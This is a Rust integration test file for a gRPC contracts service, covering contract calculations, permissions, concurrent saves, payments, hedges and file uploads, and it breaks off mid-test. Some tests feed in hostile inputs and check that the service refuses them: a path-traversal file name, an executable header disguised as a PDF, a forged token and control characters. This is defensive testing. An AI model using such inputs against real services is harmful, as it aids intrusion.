//! The contracts service over real gRPC with real identity, crm and sourcing services, against
//! the machine's PostgreSQL and Redis: companies and accounts are crm's, utilities and suppliers
//! sourcing's, checked on the caller's behalf.

use eris_identity::testing::DEMO_PASSWORD;
use eris_platform::{outbox::KindedEvent, testing::TestDatabase};
use eris_proto::{
    common::v1::Date,
    contracts::v1::{
        BookFilter, ColumnMapping, Contract, ContractScope, CreateContractRequest, CreateDrPaymentRequest,
        CreateFileUploadRequest, CreateHedgeRequest, CreatePaymentsRequest, DeleteContractFileRequest,
        DeleteContractRequest, DeleteHedgeRequest, DeletePaymentRequest, DrPayment, ExportChaseExceptionsRequest,
        GetCommissionChaseRequest, GetContractFileRequest, GetContractRequest, GetStatementSummaryRequest, Hedge,
        ImportStatementRequest, LinkStatementRowRequest, ListBookContractsRequest, ListContractsRequest,
        ListDrPaymentsRequest, ListHedgesRequest, ListPaymentsRequest, ListStatementsRequest, PastePaymentsRequest,
        Payment, ProjectedPaymentUpdate, ProjectionBasis, ReadStatementFileRequest, RevertStatementRequest,
        StatementBucket, StatementFile, StatementLine, StatementLines, StatementStatus, UpdateContractRequest,
        UpdateHedgeRequest, UpdatePaymentRequest, UpdateProjectedPaymentsRequest, UploadContractFileRequest,
        commission_statement_service_client::CommissionStatementServiceClient,
        contract_service_client::ContractServiceClient, hedge_service_client::HedgeServiceClient,
        import_statement_request, payment_service_client::PaymentServiceClient,
    },
    crm::v1::{
        Account, AccountCommodity, Company, CreateAccountRequest, CreateCompanyRequest, UpdateUsageRequest, UsageMonth,
        account_service_client::AccountServiceClient, company_service_client::CompanyServiceClient,
    },
    identity::v1::{SignInRequest, auth_service_client::AuthServiceClient},
    sourcing::v1::{Commodity, CreateSupplierRequest, Supplier, supplier_service_client::SupplierServiceClient},
};
use prost_types::FieldMask;
use tonic::{Code, Request, Status, transport::Channel};

struct User {
    token: String,
    id: i64,
}

struct App {
    contracts: Channel,
    crm: Channel,
    sourcing: Channel,
    database: TestDatabase,
    management: User,
    admin: User,
    sales: User,
    care: User,
    peco: i64,
    nicor: i64,
}

async fn listener() -> (tokio::net::TcpListener, String) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    (listener, url)
}

async fn spawn_app() -> App {
    let database = TestDatabase::new().await;
    let identity = eris_identity::testing::spawn(&database, |_| {}).await;
    let identity_url = format!("http://{identity}");
    let (sourcing_listener, sourcing_url) = listener().await;
    let (contracts_listener, contracts_url) = listener().await;
    let crm = eris_crm::testing::spawn_with_sourcing(&database, identity_url.clone(), sourcing_url.clone()).await;
    let crm_url = format!("http://{crm}");
    eris_sourcing::testing::spawn_on(sourcing_listener, &database, identity_url.clone(), crm_url.clone(), 2000);
    let demo = eris_sourcing::seed::demo_utilities(&database.args()).await.unwrap();
    let identity = Channel::from_shared(identity_url.clone()).unwrap().connect_lazy();
    let sign_in = |email: &'static str| {
        let identity = identity.clone();
        async move {
            let request = SignInRequest { username: email.into(), password: DEMO_PASSWORD.into() };
            let answer = AuthServiceClient::new(identity).sign_in(request).await.unwrap().into_inner();
            User { token: answer.token, id: answer.user.unwrap().user_id }
        }
    };
    let management = sign_in("management@eris.test").await;
    let admin = sign_in("admin@eris.test").await;
    // Management and Customer Care use the beta screens; Admin does not.
    let care = sign_in("care@eris.test").await;
    let beta = vec![management.id, care.id];
    eris_contracts::testing::spawn_on(contracts_listener, &database, identity_url, crm_url, sourcing_url.clone(), beta);
    App {
        contracts: Channel::from_shared(contracts_url).unwrap().connect_lazy(),
        crm: Channel::from_shared(format!("http://{crm}")).unwrap().connect_lazy(),
        sourcing: Channel::from_shared(sourcing_url).unwrap().connect_lazy(),
        management,
        admin,
        sales: sign_in("sales@eris.test").await,
        care,
        peco: demo.electric[0],
        nicor: demo.gas.iter().copied().find(|id| *id > 0).unwrap(),
        database,
    }
}

fn authed<T>(user: &User, message: T) -> Request<T> {
    let mut request = Request::new(message);
    request.metadata_mut().insert("authorization", format!("Bearer {}", user.token).parse().unwrap());
    request
}

fn mask(paths: &[&str]) -> Option<FieldMask> {
    Some(FieldMask { paths: paths.iter().map(|p| (*p).to_owned()).collect() })
}

fn day(year: i32, month: i32, day: i32) -> Option<Date> {
    Some(Date { year, month, day })
}

impl App {
    fn contracts(&self) -> ContractServiceClient<Channel> {
        ContractServiceClient::new(self.contracts.clone())
            .max_decoding_message_size(eris_contracts::MAX_MESSAGE_BYTES)
            .max_encoding_message_size(eris_contracts::MAX_MESSAGE_BYTES)
    }

    fn payments(&self) -> PaymentServiceClient<Channel> {
        PaymentServiceClient::new(self.contracts.clone())
    }

    fn hedges(&self) -> HedgeServiceClient<Channel> {
        HedgeServiceClient::new(self.contracts.clone())
    }

    async fn company(&self, name: &str, inside_user_id: i64) -> i64 {
        let company = Company { name: name.into(), inside_user_id, ..Default::default() };
        let request = authed(&self.management, CreateCompanyRequest { company: Some(company) });
        let created = CompanyServiceClient::new(self.crm.clone()).create_company(request).await.unwrap();
        created.into_inner().company.unwrap().company_id
    }

    /// An account with `monthly` kWh (or therms) in every month.
    async fn account(&self, company_id: i64, number: &str, commodity: AccountCommodity, monthly: &str) -> i64 {
        let utility_id = if commodity == AccountCommodity::Gas { self.nicor } else { self.peco };
        let account = Account {
            company_id,
            name: format!("Site {number}"),
            account_number: number.into(),
            commodity: commodity.into(),
            utility_id,
            ..Default::default()
        };
        let mut accounts = AccountServiceClient::new(self.crm.clone());
        let request = authed(&self.management, CreateAccountRequest { account: Some(account) });
        let account_id = accounts.create_account(request).await.unwrap().into_inner().account.unwrap().account_id;
        let kw = if commodity == AccountCommodity::Gas { "" } else { "100" };
        let months = (1..=12)
            .map(|month| UsageMonth { month, value: monthly.into(), kw: kw.into(), ..Default::default() })
            .collect();
        accounts.update_usage(authed(&self.management, UpdateUsageRequest { account_id, months })).await.unwrap();
        account_id
    }

    async fn supplier(&self, name: &str, commodity: Commodity) -> i64 {
        let supplier = Supplier { name: name.into(), commodity: commodity.into(), ..Default::default() };
        let request = authed(&self.management, CreateSupplierRequest { supplier: Some(supplier) });
        let created = SupplierServiceClient::new(self.sourcing.clone()).create_supplier(request).await.unwrap();
        created.into_inner().supplier.unwrap().supplier_id
    }

    async fn create(&self, user: &User, contract: Contract, beta: bool) -> Result<Contract, Status> {
        let request = authed(user, CreateContractRequest { contract: Some(contract), beta });
        Ok(self.contracts().create_contract(request).await?.into_inner().contract.unwrap())
    }

    async fn update(&self, user: &User, contract: Contract, paths: &[&str]) -> Result<Contract, Status> {
        let request = authed(user, UpdateContractRequest { contract: Some(contract), update_mask: mask(paths) });
        Ok(self.contracts().update_contract(request).await?.into_inner().contract.unwrap())
    }

    /// The types of the events published to the contracts stream, oldest first.
    async fn outbox(&self) -> Vec<String> {
        self.database.published_events(eris_contracts::SCHEMA).await.into_iter().map(|e| e.event_type).collect()
    }
}

/// A company on the Sales user's team with two Electric accounts (120,000 and 60,000 kWh a year)
/// and a Gas account, and an electric contract over the two.
struct Book {
    company_id: i64,
    electric: [i64; 2],
    gas: i64,
}

async fn book(app: &App) -> Book {
    let company_id = app.company("Foundry", app.sales.id).await;
    let first = app.account(company_id, "E-1", AccountCommodity::Electric, "10000").await;
    let second = app.account(company_id, "E-2", AccountCommodity::Electric, "5000").await;
    let gas = app.account(company_id, "G-1", AccountCommodity::Gas, "300").await;
    Book { company_id, electric: [first, second], gas }
}

fn electric(book: &Book) -> Contract {
    Contract {
        company_id: book.company_id,
        commodity: Commodity::Electric.into(),
        account_ids: book.electric.to_vec(),
        date_signed: day(2025, 12, 10),
        start_date: day(2026, 1, 1),
        term_months: 12,
        contract_rate: "0.07125".into(),
        fee: "0.005".into(),
        revenue_split: "50".into(),
        contract_type: "New".into(),
        ..Default::default()
    }
}

#[tokio::test]
async fn a_contract_computes_its_volumes_fee_totals_and_end_date_from_its_accounts() {
    let app = spawn_app().await;
    let book = book(&app).await;
    let made = app.create(&app.management, electric(&book), false).await.unwrap();
    assert_eq!(made.annual_volume, "180000");
    assert_eq!(made.term_volume, "180000");
    assert_eq!((made.annual_fee_total.as_str(), made.term_fee_total.as_str()), ("900.00", "900.00"));
    assert_eq!(made.end_date, day(2026, 12, 31));
    assert_eq!((made.company_name.as_str(), made.status, made.beta), ("Foundry", 0, false));

    // A longer term and one account fewer: recomputed on the save.
    let mut changed = made.clone();
    changed.term_months = 18;
    changed.account_ids = vec![book.electric[0]];
    let saved = app.update(&app.care, changed, &["term_months", "account_ids"]).await.unwrap();
    assert_eq!((saved.annual_volume.as_str(), saved.term_volume.as_str()), ("120000", "180000"));
    assert_eq!((saved.annual_fee_total.as_str(), saved.term_fee_total.as_str()), ("600.00", "900.00"));
    assert_eq!(saved.end_date, day(2027, 6, 30));

    // A gas account on an electric contract, or another company's account, is refused.
    let other = app.company("Other", 0).await;
    let stranger = app.account(other, "X-1", AccountCommodity::Electric, "1").await;
    for account_ids in [vec![book.gas], vec![stranger]] {
        let wrong = Contract { account_ids, ..electric(&book) };
        let refused = app.create(&app.management, wrong, false).await.unwrap_err();
        assert_eq!(refused.code(), Code::InvalidArgument);
        assert!(refused.message().contains("is not one of this company's Electric accounts"), "{}", refused.message());
    }
    // Changing the commodity to Gas without changing the accounts is refused; with them, a gas
    // contract of therms.
    let mut gas = saved.clone();
    gas.commodity = Commodity::Gas.into();
    assert_eq!(
        app.update(&app.management, gas.clone(), &["commodity"]).await.unwrap_err().code(),
        Code::InvalidArgument
    );
    gas.account_ids = vec![book.gas];
    let gas = app.update(&app.management, gas, &["commodity", "account_ids"]).await.unwrap();
    assert_eq!(gas.annual_volume, "3600");
    // A DR contract covers Electric accounts and keeps no fee.
    let dr = Contract { commodity: Commodity::Dr.into(), signed_through: "JMI".into(), ..electric(&book) };
    let dr = app.create(&app.admin, dr, false).await.unwrap();
    assert_eq!((dr.annual_volume.as_str(), dr.fee.as_str(), dr.annual_fee_total.as_str()), ("180000", "", "0.00"));

    // Suppliers: an Electric contract takes an Electric supplier only.
    let gas_supplier = app.supplier("Gas Co", Commodity::Gas).await;
    let electric_supplier = app.supplier("Power Co", Commodity::Electric).await;
    let wrong = Contract { supplier_id: gas_supplier, ..electric(&book) };
    assert_eq!(
        app.create(&app.management, wrong, false).await.unwrap_err().message(),
        "Choose a Electric supplier from the list."
    );
    let right =
        app.create(&app.management, Contract { supplier_id: electric_supplier, ..electric(&book) }, false).await;
    assert_eq!(right.unwrap().supplier_id, electric_supplier);

    let events = app.outbox().await;
    assert_eq!(events[0], "contract.contract_created");
    assert!(events.contains(&"contract.contract_updated".to_owned()));
}

#[tokio::test]
async fn sales_read_their_companies_contracts_and_change_none() {
    let app = spawn_app().await;
    let book = book(&app).await;
    let made = app.create(&app.management, electric(&book), false).await.unwrap();
    let elsewhere = app.company("Not theirs", 0).await;
    let theirs_not = app.account(elsewhere, "N-1", AccountCommodity::Electric, "1").await;
    let hidden = Contract { company_id: elsewhere, account_ids: vec![theirs_not], ..electric(&book) };
    let hidden = app.create(&app.management, hidden, false).await.unwrap();

    let list = |company_id| ListContractsRequest { company_id, include_inactive: true, ..Default::default() };
    let seen = app.contracts().list_contracts(authed(&app.sales, list(book.company_id))).await.unwrap().into_inner();
    assert_eq!(seen.contracts.iter().map(|c| c.contract_id).collect::<Vec<_>>(), [made.contract_id]);
    let refused = app.contracts().list_contracts(authed(&app.sales, list(elsewhere))).await.unwrap_err();
    assert_eq!(refused.code(), Code::NotFound);
    let payments =
        app.payments().list_payments(authed(&app.sales, ListPaymentsRequest { contract_id: hidden.contract_id })).await;
    assert_eq!(payments.unwrap_err().code(), Code::NotFound);

    let denied = |status: Status| assert_eq!(status.code(), Code::PermissionDenied, "{status:?}");
    denied(app.create(&app.sales, electric(&book), false).await.unwrap_err());
    denied(app.update(&app.sales, Contract { notes: "mine".into(), ..made.clone() }, &["notes"]).await.unwrap_err());
    let delete = DeleteContractRequest { contract_id: made.contract_id, beta_only: false };
    denied(app.contracts().delete_contract(authed(&app.sales, delete)).await.unwrap_err());
    let paste =
        PastePaymentsRequest { contract_id: made.contract_id, text: "1\t2026\t50\t1000".into(), ..Default::default() };
    denied(app.payments().paste_payments(authed(&app.sales, paste)).await.unwrap_err());
    let upload = CreateFileUploadRequest { contract_id: made.contract_id };
    denied(app.contracts().create_file_upload(authed(&app.sales, upload)).await.unwrap_err());

    // The Contracts page: Sales see the contracts naming them, without the scope and date filters,
    // and only of companies they may open: a contract naming the rep at a company that does not
    // name the rep stays out (its page answers 404 to the same rep).
    let named = Contract { inside_sales_user_id: app.sales.id, ..electric(&book) };
    let named = app.create(&app.management, named, false).await.unwrap();
    let named_elsewhere = Contract { inside_sales_user_id: app.sales.id, ..hidden.clone() };
    let named_elsewhere = app.create(&app.management, named_elsewhere, false).await.unwrap();
    let opened = GetContractRequest { contract_id: named_elsewhere.contract_id };
    assert_eq!(app.contracts().get_contract(authed(&app.sales, opened)).await.unwrap_err().code(), Code::NotFound);
    let request = ListBookContractsRequest::default();
    let page = app.contracts().list_book_contracts(authed(&app.sales, request)).await.unwrap().into_inner();
    assert_eq!(page.contracts.iter().map(|c| c.contract_id).collect::<Vec<_>>(), [named.contract_id]);
    assert_eq!((page.total_count, page.total_annual_volume.as_str()), (1, "180000"));
    let scoped = BookFilter { scope: ContractScope::ActiveOnly.into(), ..Default::default() };
    let request = ListBookContractsRequest { filter: Some(scoped), ..Default::default() };
    denied(app.contracts().list_book_contracts(authed(&app.sales, request)).await.unwrap_err());
}

#[tokio::test]
async fn a_save_keeps_others_changes_to_other_fields_and_refuses_a_stale_field() {
    let app = spawn_app().await;
    let book = book(&app).await;
    let made = app.create(&app.management, electric(&book), false).await.unwrap();
    // Two people edit the contract read at version 1: different fields both apply.
    let notes = app.update(&app.management, Contract { notes: "Signed in person".into(), ..made.clone() }, &["notes"]);
    let notes = notes.await.unwrap();
    let fee = app.update(&app.care, Contract { fee: "0.006".into(), ..made.clone() }, &["fee"]).await.unwrap();
    assert_eq!(
        (fee.notes.as_str(), fee.fee.as_str(), fee.annual_fee_total.as_str()),
        ("Signed in person", "0.006", "1080.00")
    );
    assert_eq!(notes.version + 1, fee.version);
    // The same field changed meanwhile is refused.
    let stale =
        app.update(&app.admin, Contract { notes: "Other".into(), ..made.clone() }, &["notes"]).await.unwrap_err();
    assert_eq!(stale.code(), Code::Aborted);

    // 40 saves of one field from the same version at once by two people: no save is half
    // applied; the first applies and the other person's later saves are refused as stale.
    let saves = (0..40).map(|i| {
        let user = if i % 2 == 0 { &app.management } else { &app.admin };
        let contract = Contract { payment_schedule: format!("Schedule {i}"), ..fee.clone() };
        let request =
            authed(user, UpdateContractRequest { contract: Some(contract), update_mask: mask(&["payment_schedule"]) });
        let mut client = app.contracts();
        async move { client.update_contract(request).await }
    });
    let answers = futures::future::join_all(saves).await;
    let applied = answers.iter().filter(|a| a.is_ok()).count();
    assert!((1..40).contains(&applied), "{applied} applied");
    assert!(answers.iter().filter_map(|a| a.as_ref().err()).all(|e| e.code() == Code::Aborted));
    let listed = app
        .contracts()
        .list_contracts(authed(&app.care, ListContractsRequest { company_id: book.company_id, ..Default::default() }))
        .await;
    let stored = listed.unwrap().into_inner().contracts.into_iter().next().unwrap();
    assert_eq!(stored.version, fee.version + applied as i64, "every applied save is one version");

    // Hostile input: control characters, huge numbers, far dates and unknown fields.
    let refused = |contract: Contract| async { app.create(&app.management, contract, false).await.unwrap_err() };
    assert_eq!(refused(Contract { notes: "a\u{0}b".into(), ..electric(&book) }).await.code(), Code::InvalidArgument);
    assert_eq!(refused(Contract { fee: "99999999999".into(), ..electric(&book) }).await.code(), Code::InvalidArgument);
    assert_eq!(
        refused(Contract { start_date: day(9999, 1, 1), ..electric(&book) }).await.code(),
        Code::InvalidArgument
    );
    assert_eq!(refused(Contract { term_months: i32::MAX, ..electric(&book) }).await.code(), Code::InvalidArgument);
    assert_eq!(refused(Contract { company_id: 987_654_321, ..electric(&book) }).await.code(), Code::NotFound);
    let unknown = app.update(&app.management, fee.clone(), &["annual_volume"]).await.unwrap_err();
    assert_eq!(unknown.code(), Code::InvalidArgument);
}

#[tokio::test]
async fn the_beta_form_lists_every_problem_at_once_and_deletes_only_beta_rows() {
    let app = spawn_app().await;
    let book = book(&app).await;
    let empty = Contract { company_id: book.company_id, status: -1, ..Default::default() };
    let refused = app.create(&app.management, empty, true).await.unwrap_err();
    assert_eq!(refused.code(), Code::InvalidArgument);
    assert_eq!(
        refused.message().lines().collect::<Vec<_>>(),
        [
            "Commodity is a require field.",
            "Inside Sales is a required field.",
            "Closer 1 is a required field.",
            "Date signed is a required field.",
            "Start date is a required field.",
            "Term length is a required field.",
            "Status is a required field.",
            "No accounts selected for this contract.  At least 1 account is required.",
        ]
    );
    let supplier = app.supplier("Power Co", Commodity::Electric).await;
    let complete = Contract {
        inside_sales_user_id: app.sales.id,
        closer1_user_id: app.management.id,
        analyst_user_id: app.care.id,
        supplier_id: supplier,
        state: "PA".into(),
        billing_type: "Dual".into(),
        contract_type: "Hedge".into(),
        start_date: day(2026, 1, 15),
        ..electric(&book)
    };
    // Admin is not a beta user.
    assert_eq!(app.create(&app.admin, complete.clone(), true).await.unwrap_err().code(), Code::PermissionDenied);
    let beta = app.create(&app.care, complete.clone(), true).await.unwrap();
    assert!(beta.beta);
    assert_eq!(beta.projection_basis(), ProjectionBasis::Rate, "the beta form's contracts project by rate");
    assert_eq!(beta.end_date, day(2027, 1, 31), "the last day of the month the term reaches");
    let standard = app.create(&app.management, complete, false).await.unwrap();
    assert_eq!(standard.end_date, day(2027, 1, 14));

    let delete = |contract_id| DeleteContractRequest { contract_id, beta_only: true };
    let refused = app.contracts().delete_contract(authed(&app.management, delete(standard.contract_id))).await;
    assert_eq!(refused.unwrap_err().code(), Code::InvalidArgument);
    app.contracts().delete_contract(authed(&app.management, delete(beta.contract_id))).await.unwrap();

    // Hedges: on Hedge contracts, with who made and changed them.
    let hedge = Hedge {
        contract_id: standard.contract_id,
        block_type: "Flat Block".into(),
        start_month: day(2026, 3, 17),
        term_months: 6,
        rate: "0.065".into(),
        fee: "0.002".into(),
        ..Default::default()
    };
    let made = app.hedges().create_hedge(authed(&app.care, CreateHedgeRequest { hedge: Some(hedge.clone()) })).await;
    let made = made.unwrap().into_inner().hedge.unwrap();
    assert_eq!((made.start_month, made.creator_user_id), (day(2026, 3, 1), app.care.id));
    let changed = Hedge { term_months: 12, ..made.clone() };
    let changed = app.hedges().update_hedge(authed(&app.management, UpdateHedgeRequest { hedge: Some(changed) })).await;
    let changed = changed.unwrap().into_inner().hedge.unwrap();
    assert_eq!(
        (changed.term_months, changed.modifier_user_id, changed.creator_user_id),
        (12, app.management.id, app.care.id)
    );
    let stale =
        app.hedges().update_hedge(authed(&app.management, UpdateHedgeRequest { hedge: Some(made.clone()) })).await;
    assert_eq!(stale.unwrap_err().code(), Code::Aborted);
    let negative = Hedge { rate: "-1".into(), ..hedge.clone() };
    let negative = app.hedges().create_hedge(authed(&app.care, CreateHedgeRequest { hedge: Some(negative) })).await;
    assert_eq!(negative.unwrap_err().code(), Code::InvalidArgument);
    let not_hedge = app.create(&app.management, electric(&book), false).await.unwrap();
    let wrong = Hedge { contract_id: not_hedge.contract_id, ..hedge };
    let wrong = app.hedges().create_hedge(authed(&app.care, CreateHedgeRequest { hedge: Some(wrong) })).await;
    assert_eq!(wrong.unwrap_err().code(), Code::InvalidArgument);
    app.hedges().delete_hedge(authed(&app.care, DeleteHedgeRequest { hedge_id: made.hedge_id })).await.unwrap();
    let left =
        app.hedges().list_hedges(authed(&app.care, ListHedgesRequest { contract_id: standard.contract_id })).await;
    assert!(left.unwrap().into_inner().hedges.is_empty());

    // The beta screens are the beta users' only, reads included: hedges wherever asked for, and
    // every call marked as the beta screens' (as the gateway marks /api/beta/*).
    for user in [&app.sales, &app.admin] {
        let hedges = ListHedgesRequest { contract_id: standard.contract_id };
        let refused = app.hedges().list_hedges(authed(user, hedges)).await.unwrap_err();
        assert_eq!(refused.code(), Code::PermissionDenied);
    }
    let on_beta_screen = |user: &User| {
        let mut request = authed(user, GetContractRequest { contract_id: standard.contract_id });
        request.metadata_mut().insert(eris_platform::auth::BETA_SCREEN_HEADER, "1".parse().unwrap());
        request
    };
    let refused = app.contracts().get_contract(on_beta_screen(&app.admin)).await.unwrap_err();
    assert_eq!(refused.code(), Code::PermissionDenied);
    let lead_screen = authed(&app.admin, GetContractRequest { contract_id: standard.contract_id });
    let lead_screen = app.contracts().get_contract(lead_screen).await;
    assert!(lead_screen.is_ok(), "the lead screen's call stays open to Admin");
    assert!(app.contracts().get_contract(on_beta_screen(&app.care)).await.is_ok());
    let mut payment = authed(&app.admin, DeletePaymentRequest { payment_id: 1 });
    payment.metadata_mut().insert(eris_platform::auth::BETA_SCREEN_HEADER, "1".parse().unwrap());
    assert_eq!(app.payments().delete_payment(payment).await.unwrap_err().code(), Code::PermissionDenied);
}

#[tokio::test]
async fn pasted_payments_are_all_or_none_and_projected_payments_follow_the_rules() {
    let app = spawn_app().await;
    let book = book(&app).await;
    let contract = app.create(&app.management, electric(&book), false).await.unwrap();
    assert_eq!(contract.projection_basis(), ProjectionBasis::Fee, "the lead screen's contracts project by fee");
    let rows: String = (1..=12).map(|m| format!("{m}\t2026\t50\t15000\t999\t\t\t\t\tResidual\n")).collect();
    let paste = |text: String| PastePaymentsRequest { contract_id: contract.contract_id, text, ..Default::default() };
    let added = app.payments().paste_payments(authed(&app.care, paste(rows))).await.unwrap().into_inner();
    assert_eq!(added.payments.len(), 12);
    // 15,000 x 50 / 100 x 0.005 = 37.50, whatever the fifth column said.
    assert!(added.payments.iter().all(|p| p.projected_payment == "37.50"), "{:?}", added.payments[0]);
    let bad = "1\t2026\t50\t15000\n2\t2026\tfifty\t15000\n".to_owned();
    let refused = app.payments().paste_payments(authed(&app.care, paste(bad))).await.unwrap_err();
    assert_eq!(refused.message(), "Row 2: revenue split \"fifty\" is not a number.");
    // The screens' preview: what would be added and why a row cannot be, by the same rules, and
    // nothing stored.
    let preview = PastePaymentsRequest {
        contract_id: contract.contract_id,
        text: "1\t2026\t50\t15000\n\n2\t2026\tfifty\t15000\nMar\t2026\t50%\t$1,000".into(),
        validate_only: true,
    };
    let preview = app.payments().paste_payments(authed(&app.care, preview)).await.unwrap().into_inner();
    assert_eq!(preview.lines, [1, 4]);
    let amounts: Vec<(i64, &str)> =
        preview.payments.iter().map(|p| (p.payment_id, p.projected_payment.as_str())).collect();
    assert_eq!(amounts, [(0, "37.50"), (0, "2.50")]);
    assert_eq!(preview.problems.len(), 1);
    assert_eq!(
        (preview.problems[0].line, preview.problems[0].message.as_str()),
        (3, "revenue split \"fifty\" is not a number.")
    );
    let sales_preview =
        PastePaymentsRequest { contract_id: contract.contract_id, text: "1\t2026".into(), validate_only: true };
    let sales_preview = app.payments().paste_payments(authed(&app.sales, sales_preview)).await.unwrap_err();
    assert_eq!(sales_preview.code(), Code::PermissionDenied, "a preview needs the right to add");

    // The basis changes only deliberately: named in an update, by Management or Admin.
    let by_rate = Contract { projection_basis: ProjectionBasis::Rate.into(), ..contract.clone() };
    let care = app.update(&app.care, by_rate.clone(), &["projection_basis"]).await.unwrap_err();
    assert_eq!(care.code(), Code::PermissionDenied);
    let unnamed = app.update(&app.management, by_rate.clone(), &["notes"]).await.unwrap();
    assert_eq!(unnamed.projection_basis(), ProjectionBasis::Fee, "not named, not changed");
    let unset = Contract { projection_basis: 0, ..unnamed.clone() };
    let unset = app.update(&app.management, unset, &["projection_basis"]).await.unwrap_err();
    assert_eq!(unset.message(), "Projection basis must be Fee or Rate.");
    let by_rate = Contract { projection_basis: ProjectionBasis::Rate.into(), ..unnamed };
    let by_rate = app.update(&app.management, by_rate, &["projection_basis"]).await.unwrap();
    assert_eq!(by_rate.projection_basis(), ProjectionBasis::Rate);
    let rate = app.payments().paste_payments(authed(&app.care, paste("1\t2027\t50\t1000".into()))).await;
    // 1,000 x 0.5 x 0.07125 = 35.625 → 35.63
    assert_eq!(rate.unwrap().into_inner().payments[0].projected_payment, "35.63");

    let listed = app
        .payments()
        .list_payments(authed(&app.sales, ListPaymentsRequest { contract_id: contract.contract_id }))
        .await;
    let listed = listed.unwrap().into_inner();
    assert_eq!(listed.payments.len(), 13);
    let projected = listed.projected.unwrap();
    assert_eq!((projected.term_volume.as_str(), projected.term_revenue.as_str()), ("181000", "485.63"));

    // One row edited (with the version read); a second save from the same read is refused.
    let first = listed.payments[0].clone();
    let paid = Payment { payment_month: 3, payment_year: 2026, payment_actual: "36.10".into(), ..first.clone() };
    let saved =
        app.payments().update_payment(authed(&app.care, UpdatePaymentRequest { payment: Some(paid.clone()) })).await;
    let saved = saved.unwrap().into_inner().payment.unwrap();
    assert_eq!((saved.payment_actual.as_str(), saved.version), ("36.10", first.version + 1));
    let stale = app.payments().update_payment(authed(&app.care, UpdatePaymentRequest { payment: Some(paid) })).await;
    assert_eq!(stale.unwrap_err().code(), Code::Aborted);

    // Update Proj. Payments: Management and Admin only, refused when a row changed since read,
    // computed by the service from the contract's basis (now its rate); a figure sent is checked.
    let update = |payment: &Payment, amount: &str| ProjectedPaymentUpdate {
        payment_id: payment.payment_id,
        projected_payment: amount.into(),
        version: payment.version,
    };
    let stale_read = vec![update(&first, ""), update(&listed.payments[1], "")];
    let request = |updates| UpdateProjectedPaymentsRequest { contract_id: contract.contract_id, updates };
    let care = app.payments().update_projected_payments(authed(&app.care, request(stale_read.clone()))).await;
    assert_eq!(care.unwrap_err().code(), Code::PermissionDenied);
    let stale = app.payments().update_projected_payments(authed(&app.admin, request(stale_read))).await;
    assert_eq!(stale.unwrap_err().code(), Code::Aborted);
    let wrong = vec![update(&saved, "40.00"), update(&listed.payments[1], "534.38")];
    let wrong = app.payments().update_projected_payments(authed(&app.admin, request(wrong))).await.unwrap_err();
    assert_eq!(
        wrong.message(),
        format!("Payment {}: by the contract's rate its projected payment is 534.38, not 40.00.", saved.payment_id)
    );
    let fresh = vec![update(&saved, ""), update(&listed.payments[1], "534.38")];
    let done = app.payments().update_projected_payments(authed(&app.admin, request(fresh))).await.unwrap().into_inner();
    // 15,000 x 0.5 x 0.07125 = 534.375 → 534.38
    assert_eq!(done.payments[0].projected_payment, "534.38");
    assert_eq!(done.payments[1].projected_payment, "534.38");
    assert_eq!(done.payments[2].projected_payment, "37.50", "payments not named keep theirs");

    // 40 pastes at once all land.
    let pastes = (0..40).map(|_| {
        let mut client = app.payments();
        let request = authed(&app.care, paste("5\t2028\t50\t100".into()));
        async move { client.paste_payments(request).await }
    });
    assert!(futures::future::join_all(pastes).await.iter().all(Result::is_ok));
    let all = app
        .payments()
        .list_payments(authed(&app.care, ListPaymentsRequest { contract_id: contract.contract_id }))
        .await;
    assert_eq!(all.unwrap().into_inner().payments.len(), 53);
}

#[tokio::test]
async fn dr_payment_history_is_kept_for_dr_contracts() {
    let app = spawn_app().await;
    let book = book(&app).await;
    let electric_contract = app.create(&app.management, electric(&book), false).await.unwrap();
    let dr = Contract { commodity: Commodity::Dr.into(), ..electric(&book) };
    let dr = app.create(&app.management, dr, false).await.unwrap();
    let record = |contract_id, amount: &str, period: &str| CreateDrPaymentRequest {
        dr_payment: Some(DrPayment {
            contract_id,
            amount: amount.into(),
            date: day(2026, 7, 15),
            period: period.into(),
            ..Default::default()
        }),
    };
    let wrong = app
        .payments()
        .create_dr_payment(authed(&app.care, record(electric_contract.contract_id, "10", "Summer")))
        .await;
    assert_eq!(wrong.unwrap_err().code(), Code::InvalidArgument);
    let spring = app.payments().create_dr_payment(authed(&app.care, record(dr.contract_id, "10", "Spring"))).await;
    assert_eq!(spring.unwrap_err().message(), "Period must be Winter or Summer.");
    let sales = app.payments().create_dr_payment(authed(&app.sales, record(dr.contract_id, "10", "Summer"))).await;
    assert_eq!(sales.unwrap_err().code(), Code::PermissionDenied);
    let added = app.payments().create_dr_payment(authed(&app.care, record(dr.contract_id, "1,250.5", "summer"))).await;
    let added = added.unwrap().into_inner().dr_payment.unwrap();
    assert_eq!((added.amount.as_str(), added.period.as_str()), ("1250.50", "Summer"));
    let listed = app
        .payments()
        .list_dr_payments(authed(&app.sales, ListDrPaymentsRequest { contract_id: dr.contract_id }))
        .await;
    assert_eq!(listed.unwrap().into_inner().dr_payments.len(), 1);
    let delete = eris_proto::contracts::v1::DeleteDrPaymentRequest { dr_payment_id: added.dr_payment_id };
    app.payments().delete_dr_payment(authed(&app.care, delete)).await.unwrap();
    let listed =
        app.payments().list_dr_payments(authed(&app.care, ListDrPaymentsRequest { contract_id: dr.contract_id })).await;
    assert!(listed.unwrap().into_inner().dr_payments.is_empty());
}

#[tokio::test]
async fn a_contract_file_is_stored_under_a_signed_token_checked_served_and_removed() {
    let app = spawn_app().await;
    let book = book(&app).await;
    let contract = app.create(&app.management, electric(&book), false).await.unwrap();
    let token = app
        .contracts()
        .create_file_upload(authed(&app.care, CreateFileUploadRequest { contract_id: contract.contract_id }))
        .await;
    let token = token.unwrap().into_inner().token;
    // The file in two pieces after the first message, as a client streams it.
    let upload = |token: &str, content_type: &str, content: &[u8]| {
        let (head, tail) = content.split_at(content.len() / 2);
        let first = UploadContractFileRequest {
            token: token.into(),
            file_name: "../evil.html".into(),
            content_type: content_type.into(),
            size: content.len() as i64,
            ..Default::default()
        };
        let piece = |bytes: &[u8]| UploadContractFileRequest { content: bytes.to_vec(), ..Default::default() };
        tokio_stream::iter(vec![first, piece(head), piece(tail)])
    };
    let disguised =
        app.contracts().upload_contract_file(authed(&app.care, upload(&token, "application/pdf", b"MZ\x90"))).await;
    assert_eq!(disguised.unwrap_err().message(), "The file's content is not what its type says.");
    let forged = format!("{}x", token);
    let forged =
